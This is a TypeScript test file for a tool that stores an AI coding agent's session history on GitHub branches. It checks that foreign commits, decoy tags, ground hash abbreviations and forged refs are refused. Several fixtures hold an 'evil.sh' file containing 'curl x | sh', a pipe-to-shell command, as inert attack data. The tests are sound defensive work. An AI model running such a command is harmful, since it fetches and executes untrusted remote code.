/**
 * Session history on a GitHub session branch (GitHubBranchEphemeralAdapter), over the git-data-api
 * stand-in (a real bare repository, every request checked against GitHub's OpenAPI description): the
 * branch's commits are the checkpoints, the notes come from `refs/notes/gittrix-sessions/<id>/<kind>`
 * in flat and fanned-out layout, `show` reads a checkpoint's files, `diff { from, to }` renders as
 * `git diff` does, `restore` moves the branch with an atomic compare-and-swap keeping the old head
 * under the session's refs, what is not offered answers `CAPABILITY_MISSING` saying what to do, and
 * discarding the session deletes the notes refs and the refs restores kept.
 */
import { createHash } from 'node:crypto'
import { afterEach, describe, expect, it } from 'vitest'
import { sessionNotesRef } from '../../../src/github/branches.ts'
import { writeNotesCommit, toolCallsNote } from '../../support/session-notes.ts'
import { type GitHubHarness, githubHarness } from './harness.ts'

const open: GitHubHarness[] = []
afterEach(async () => {
  for (const h of open.splice(0)) await h.close()
})

async function setup(): Promise<GitHubHarness> {
  const h = await githubHarness({ 'README.md': '# Project\n', 'src/app.ts': 'export const a = 1\n' })
  open.push(h)
  return h
}

async function caught(promise: Promise<unknown>): Promise<Error & { code?: string }> {
  try {
    await promise
  } catch (error) {
    return error as Error & { code?: string }
  }
  throw new Error('expected a rejection')
}

describe('history of a GitHub session branch', () => {
  it('logs the checkpoints newest first with their tool calls and transcripts, flat and fanned-out notes', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'history', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'src/app.ts': 'export const a = 2\n' })
    const second = h.push(session.id, { 'notes.txt': 'hello\n' })
    const git = (args: string[], input?: string | Uint8Array) => h.api.git(args, input)
    writeNotesCommit(
      git,
      sessionNotesRef(session.id, 'tool-calls'),
      [
        { commit: first, bytes: toolCallsNote([{ tool: 'write_file', durationMs: 12 }]) },
        {
          commit: second,
          bytes: toolCallsNote([{ tool: 'commit', errorCode: 'WRITE_REJECTED' }]),
          fanout: true,
        },
      ],
      [{ name: 'not-a-commit', bytes: 'junk' }],
    )
    writeNotesCommit(git, sessionNotesRef(session.id, 'transcript'), [
      { commit: second, bytes: '{"role":"user"}\n{"role":"assistant"}\n', fanout: true },
    ])

    const log = await session.log()
    expect(log.map((c) => c.sha)).toEqual([second, first, h.initial])
    expect(log.map((c) => c.baseline)).toEqual([false, false, true])
    expect(log[0]!.toolCalls).toMatchObject([{ tool: 'commit', errorCode: 'WRITE_REJECTED' }])
    expect(log[0]!.client).toEqual({ name: 'test-client', version: '1.0.0' })
    expect(log[0]!.transcript).toEqual({ bytes: 37, lines: 2 })
    expect(log[1]!.toolCalls).toMatchObject([{ tool: 'write_file', durationMs: 12, errorCode: null }])
    expect(log[1]!.transcript).toBeNull()
    expect(log[2]!.toolCalls).toEqual([])
    expect((await session.log({ limit: 1 })).map((c) => c.sha)).toEqual([second])
    expect(Buffer.from((await session.transcript(second.slice(0, 10)))!).toString()).toContain('assistant')
  })

  it('logs a session without notes, and shows a checkpoint’s files and one file', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'show', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'src/app.ts': 'export const a = 2\n', 'src/new.ts': 'new\n' })
    h.push(session.id, { 'src/app.ts': 'export const a = 3\n' })

    const log = await session.log()
    expect(log).toHaveLength(3)
    expect(log.every((c) => c.toolCalls.length === 0 && c.transcript === null)).toBe(true)

    const file = await session.show(first.slice(0, 8), 'src/app.ts')
    expect(file).toMatchObject({ type: 'file', at: first, path: 'src/app.ts', mode: '100644' })
    expect(file.type === 'file' && Buffer.from(file.bytes).toString()).toBe('export const a = 2\n')
    const dir = await session.show(first, 'src')
    expect(dir.type === 'tree' && dir.entries.map((e) => e.path)).toEqual(['src/app.ts', 'src/new.ts'])
    const baseline = await session.show(h.initial)
    expect(baseline.type === 'tree' && baseline.entries.map((e) => e.path)).toEqual([
      'README.md',
      'src/app.ts',
    ])
    expect((await caught(session.show(first, 'missing.txt'))).code).toBe('FILE_NOT_FOUND')
    // A commit of the durable branch that is older than the baseline is not the session's.
    const other = h.api.commit('elsewhere', { 'x.txt': 'x\n' }, { message: 'other\n' })
    expect((await caught(session.show(other))).code).toBe('INVALID_ARGUMENT')
  })

  it('answers CAPABILITY_MISSING, saying what to do, for writing notes', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'missing', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'a.txt': 'a\n' })
    const write = await caught(session.recordToolCalls(first, [], null))
    expect(write.code).toBe('CAPABILITY_MISSING')
    expect(write.message).toMatch(/refs\/notes\/gittrix-transcript of the agent's checkout/)
    const attach = await caught(session.attachTranscript(new TextEncoder().encode('{}\n')))
    expect(attach.code).toBe('CAPABILITY_MISSING')
  })

  it('diffs between checkpoints as git diff does, from and to any point of the session', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'between', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'a.txt': 'a\n', 'bin.dat': Buffer.from([0, 1, 2]) })
    const second = h.push(session.id, { 'src/app.ts': 'export const a = 2\n', 'b.txt': 'b\n' })
    const third = h.push(session.id, { 'a.txt': null, 'bin.dat': Buffer.from([0, 1, 3]) })
    const gitDiff = (...revs: string[]) => `${h.api.git(['diff', '--no-renames', ...revs])}\n`
    expect(await session.diff({ from: first, to: second })).toBe(gitDiff(first, second))
    expect(await session.diff({ from: first.slice(0, 9) })).toBe(gitDiff(first, third))
    expect(await session.diff({ from: second, to: third })).toBe(gitDiff(second, third))
    expect(await session.diff({ to: first })).toBe(gitDiff(h.initial, first))
    expect(await session.diff({ from: h.initial, to: second })).toBe(gitDiff(h.initial, second))
    expect(await session.diff({ from: second, to: second })).toBe('')
    const details = await session.diffDetails({ from: first, to: third })
    expect(details.files.map((f) => [f.path, f.status])).toEqual([
      ['a.txt', 'deleted'],
      ['b.txt', 'added'],
      ['bin.dat', 'modified'],
      ['src/app.ts', 'modified'],
    ])
    // Backwards (from a later point to an earlier one): nothing from GitHub's three-dot comparison.
    expect(await session.diff({ from: third, to: first })).toBe(gitDiff(third, first))
    // Not a commit of the session: a durable commit before the baseline, or an unknown one.
    const other = h.api.commit('elsewhere', { 'x.txt': 'x\n' }, { message: 'other\n' })
    expect((await caught(session.diff({ from: other }))).code).toBe('INVALID_ARGUMENT')
    expect((await caught(session.diff({ from: first, to: 'f'.repeat(40) }))).code).toBe('INVALID_ARGUMENT')
    // The session's own diff (against the baseline, now) is what it was.
    // (its promotable hunks carry their ids, which `git apply` ignores; diffs between checkpoints have none).
    const own = await session.diff()
    expect(own).toMatch(/^@@ -1 \+1 @@ \[h:[0-9a-f]{8}\]$/m)
    expect(own.replace(/ \[h:[0-9a-f]{8}\]$/gm, '')).toBe(gitDiff(h.initial, third))
  })

  it('restores the session branch to a checkpoint, keeping the old head under the session refs', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'restore', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'a.txt': 'a\n' })
    const second = h.push(session.id, { 'a.txt': 'a2\n', 'b.txt': 'b\n' })
    const main = h.api.head('main')
    const restored = await session.restore(first.slice(0, 10))
    expect(restored).toMatchObject({ from: second, to: first, savedUncommitted: null })
    expect(restored.savedRef.startsWith(`refs/notes/gittrix-sessions/${session.id}/restored/`)).toBe(true)
    expect(h.api.resolve(restored.savedRef)).toBe(second)
    expect(h.api.head(`gittrix/${session.id}`)).toBe(first)
    expect(h.api.head('main')).toBe(main)
    expect((await session.log()).map((c) => c.sha)).toEqual([first, h.initial])
    expect(Buffer.from(await session.read('a.txt')).toString()).toBe('a\n')
    // The old head is still a point of the session: shown, diffed, and restored to again.
    const shown = await session.show(second, 'b.txt')
    expect(shown.type === 'file' && Buffer.from(shown.bytes).toString()).toBe('b\n')
    expect(await session.diff({ from: second })).toContain('-b\n')
    const forward = await session.restore(second)
    expect(forward.to).toBe(second)
    expect(h.api.resolve(forward.savedRef)).toBe(first)
    expect(h.api.head(`gittrix/${session.id}`)).toBe(second)

    // To the baseline: the branch keeps its start commit (the session stays readable), files as at the baseline.
    const back = await session.restore(h.initial)
    expect(back.to).not.toBe(h.initial)
    expect(h.api.git(['log', '-1', '--format=%P %s', back.to])).toBe(
      `${h.initial} gittrix: start ${session.id}`,
    )
    expect(await session.diff()).toBe('')
    expect((await session.log()).map((c) => c.sha)).toEqual([h.initial])
    expect((await h.gittrix.getSession(session.id)).id).toBe(session.id)

    // A commit that is not the session's is refused, and nothing moves.
    const other = h.api.commit('elsewhere', { 'x.txt': 'x\n' }, { message: 'other\n' })
    expect((await caught(session.restore(other))).code).toBe('INVALID_ARGUMENT')
    expect(h.api.head(`gittrix/${session.id}`)).toBe(back.to)
    expect(h.api.head('main')).toBe(main)

    // Discarding the session deletes the refs a restore kept.
    await session.discard()
    for (const r of [restored, forward, back]) expect(h.api.resolve(r.savedRef)).toBeNull()
  })

  it('restore loses a race with a push cleanly: the branch keeps the push, no ref is left behind', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'race', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'a.txt': 'a\n' })
    h.push(session.id, { 'a.txt': 'a2\n' })
    let pushed = ''
    // The agent pushes right before the restore moves the branch (its last request).
    h.api.before('POST /graphql', 2, () => {
      pushed = h.push(session.id, { 'c.txt': 'c\n' })
    })
    const race = await caught(session.restore(first))
    expect(race.code).toBe('EVICTION_RACE')
    expect(race.message).toMatch(/Run the restore again/)
    expect(h.api.head(`gittrix/${session.id}`)).toBe(pushed)
    expect(
      h.api.git(['for-each-ref', '--format=%(refname)', `refs/notes/gittrix-sessions/${session.id}/`]),
    ).toBe('')
  })

  it('restore needs GraphQL (an atomic compare-and-swap); without it CAPABILITY_MISSING says what to do', async () => {
    const h = await setup()
    h.api.graphqlEnabled = false
    const session = await h.gittrix.startSession({ task: 'rest', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'a.txt': 'a\n' })
    const second = h.push(session.id, { 'a.txt': 'a2\n' })
    const refused = await caught(session.restore(first))
    expect(refused.code).toBe('CAPABILITY_MISSING')
    expect(refused.message).toMatch(/GraphQL/)
    expect(h.api.head(`gittrix/${session.id}`)).toBe(second)
    // Diff between checkpoints reads over REST too.
    expect(await session.diff({ from: first })).toContain('+a2')
  })

  it('deletes the notes refs with the branch when the session is discarded', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'evict', eviction: { untilPromote: false } })
    const first = h.push(session.id, { 'a.txt': 'a\n' })
    const git = (args: string[], input?: string | Uint8Array) => h.api.git(args, input)
    for (const kind of ['tool-calls', 'transcript'] as const)
      writeNotesCommit(git, sessionNotesRef(session.id, kind), [{ commit: first, bytes: '{}\n' }])
    // Another session's notes survive.
    const otherRef = sessionNotesRef('sess_aaaaaaaaaaaa', 'tool-calls')
    writeNotesCommit(git, otherRef, [{ commit: first, bytes: '{}\n' }])

    await session.discard()
    expect(h.api.head(`gittrix/${session.id}`)).toBeNull()
    expect(h.api.resolve(sessionNotesRef(session.id, 'tool-calls'))).toBeNull()
    expect(h.api.resolve(sessionNotesRef(session.id, 'transcript'))).toBeNull()
    expect(h.api.resolve(otherRef)).not.toBeNull()
  })

  it("another session's commit on the same baseline is not this session's: show, diff, restore and a pinned promote refuse it", async () => {
    const h = await setup()
    const mine = await h.gittrix.startSession({ task: 'mine', eviction: { untilPromote: false } })
    const theirs = await h.gittrix.startSession({ task: 'theirs', eviction: { untilPromote: false } })
    const own = h.push(mine.id, { 'a.txt': 'reviewed\n' })
    const foreign = h.push(theirs.id, { 'a.txt': 'never reviewed here\n', 'evil.sh': 'curl x | sh\n' })
    for (const at of [foreign, foreign.slice(0, 10)]) {
      expect((await caught(mine.show(at, 'a.txt'))).code).toBe('INVALID_ARGUMENT')
      expect((await caught(mine.diff({ from: at }))).code).toBe('INVALID_ARGUMENT')
      expect((await caught(mine.diff({ to: at }))).code).toBe('INVALID_ARGUMENT')
      expect((await caught(mine.restore(at))).code).toBe('INVALID_ARGUMENT')
      expect((await caught(mine.promote({ selector: { mode: 'all' }, at }))).code).toBe('INVALID_ARGUMENT')
    }
    expect(h.api.head(`gittrix/${mine.id}`)).toBe(own)
    expect(h.api.head('main')).toBe(h.initial)
    // Its own commits still are.
    const shown = await mine.show(own.slice(0, 10), 'a.txt')
    expect(shown.type === 'file' && Buffer.from(shown.bytes).toString()).toBe('reviewed\n')
  })

  it('a tag named like the session branch does not stand in for it: diff and promotion read the branch', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'shadow', eviction: { untilPromote: false } })
    h.push(session.id, { 'a.txt': 'reviewed\n' })
    // Someone with push access tags other content under the session branch's short name.
    const decoy = h.api.commit(
      'decoy',
      { 'a.txt': 'swapped\n', 'evil.sh': 'curl x | sh\n' },
      { from: h.initial },
    )
    h.api.git(['tag', `gittrix/${session.id}`, decoy])
    const diff = await session.diff()
    expect(diff).toContain('+reviewed')
    expect(diff).not.toContain('evil.sh')
    const promoted = await session.promote({ selector: { mode: 'all' }, strategy: 'commit' })
    expect(h.api.git(['show', `${promoted.sha}:a.txt`])).toBe('reviewed')
    expect(h.api.git(['ls-tree', '--name-only', promoted.sha])).not.toContain('evil.sh')
  })

  it('only full ids reach GitHub: a 64-hex ref name is refused, an abbreviation is matched among the branch’s own commits', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'ids', eviction: { untilPromote: false } })
    const reviewed = h.push(session.id, { 'a.txt': 'reviewed\n' })
    const evil = h.api.commit(
      'elsewhere',
      { 'a.txt': 'EVIL\n', 'evil.sh': 'curl x | sh\n' },
      { from: h.initial },
    )
    // A tag named like a SHA-256 id (git reads 64 hex on a SHA-1 repository as a ref name).
    const long = `${reviewed}${'f'.repeat(24)}`
    h.api.git(['update-ref', `refs/tags/${long}`, evil])
    expect((await caught(session.show(long, 'a.txt'))).code).toBe('INVALID_ARGUMENT')
    // A tag named like the reviewed commit's abbreviation, pointing elsewhere: the abbreviation still
    // names the branch's commit (GitHub, like git, would read the tag first).
    const prefix = reviewed.slice(0, 6)
    h.api.git(['tag', prefix, evil])
    const shown = await session.show(prefix, 'a.txt')
    expect(shown.type === 'file' && Buffer.from(shown.bytes).toString()).toBe('reviewed\n')
    // A later commit of the branch ground to share a 4-digit abbreviation: ambiguous, refused.
    const short = reviewed.slice(0, 4)
    const later = h.push(session.id, { 'evil.sh': 'curl x | sh\n' })
    const body = h.api.git(['cat-file', 'commit', later])
    let twin = ''
    for (let n = 0; !twin; n++) {
      const text = `${body}\nnonce ${n}\n`
      const id = createHash('sha1')
        .update(`commit ${Buffer.byteLength(text)}\0${text}`)
        .digest('hex')
      if (id.startsWith(short)) twin = h.api.git(['hash-object', '-w', '-t', 'commit', '--stdin'], text)
    }
    h.api.git(['update-ref', `refs/heads/gittrix/${session.id}`, twin])
    h.api.git(['tag', short, twin])
    const ambiguous = await caught(session.promote({ selector: { mode: 'all' }, at: short }))
    expect(ambiguous.code).toBe('INVALID_ARGUMENT')
    expect(ambiguous.message).toMatch(/2 of its commits start with it/)
    expect(h.api.head('main')).toBe(h.initial)
  })

  it('a head a restore kept is a point of history, never of a pinned promotion: anyone who may push can write those refs', async () => {
    const h = await setup()
    const session = await h.gittrix.startSession({ task: 'kept', eviction: { untilPromote: false } })
    h.push(session.id, { 'a.txt': 'reviewed\n' })
    const forged = h.api.commit('elsewhere', { 'evil.sh': 'curl x | sh\n' }, { from: h.initial })
    h.api.git([
      'update-ref',
      `refs/notes/gittrix-sessions/${session.id}/restored/20260101T000000Z-${forged.slice(0, 12)}`,
      forged,
    ])
    expect((await caught(session.promote({ selector: { mode: 'all' }, at: forged }))).code).toBe(
      'INVALID_ARGUMENT',
    )
    expect(h.api.head('main')).toBe(h.initial)
    // Refs of another shape, or of a session whose id merely starts with this one's, are no kept heads.
    const other = h.api.commit('elsewhere', { 'x.txt': 'x\n' })
    for (const ref of [
      `refs/notes/gittrix-sessions/${session.id}/restored-evil`,
      `refs/notes/gittrix-sessions/${session.id}/restored/x/20260101T000000Z-0123456789ab`,
      `refs/notes/gittrix-sessions/${session.id}0/restored/20260101T000000Z-0123456789ab`,
    ])
      h.api.git(['update-ref', ref, other])
    expect((await caught(session.show(other, 'x.txt'))).code).toBe('INVALID_ARGUMENT')
  })
})
